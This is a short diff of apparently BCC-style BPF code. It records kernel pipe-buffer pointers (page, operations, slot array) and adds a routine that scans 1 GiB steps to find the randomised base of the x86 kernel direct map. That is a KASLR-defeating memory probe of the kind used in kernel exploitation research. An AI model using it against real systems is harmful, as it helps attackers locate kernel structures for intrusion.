@@ -7,6 +7,7 @@
 struct learned {
 	u64 page;
 	u64 operations;
+	u64 ring; /* the array of slots, which lies in the direct map */
 };
 BPF_ARRAY(learned, struct learned, NR_CLASSES);
 
@@ -30,7 +31,39 @@ int learn_buffer(u64 *ctx)
 	slot = slow64(pipe + PIPE_BUFS);
 	found.page = slow64(slot + BUF_PAGE);
 	found.operations = slow64(slot + BUF_OPS);
+	found.ring = slot;
 	learned.update(&class, &found);
 	return 0;
 }
+
+#if CONTENTS
+/*
+ * Looks for the direct map: for a page whose content is known. Its start is the address of a PUD,
+ * which maps 1 GiB (kernel_randomize_memory(), arch/x86/mm/kaslr.c).
+ *
+ * Arguments: the frame of that page, its first two words, and the highest place to look at.
+ */
+#define PUD_SHIFT 30
+#define PLACES	  512
+int learn_direct_map(u64 *ctx)
+{
+	u64 offset = tracepoint_arg(ctx, 0) << 12, base = tracepoint_arg(ctx, 3);
+	struct direct_map *map;
+	u32 zero = 0, i;
+
+	map = direct_map.lookup(&zero);
+	if (!map)
+		return 0;
+#pragma clang loop unroll(disable)
+	for (i = 0; i < PLACES; i++) {
+		if (slow64(base + offset) == tracepoint_arg(ctx, 1) &&
+		    slow64(base + offset + 8) == tracepoint_arg(ctx, 2)) {
+			map->base = base;
+			return 0;
+		}
+		base -= 1ULL << PUD_SHIFT;
+	}
+	return 0;
+}
+#endif
 #endif
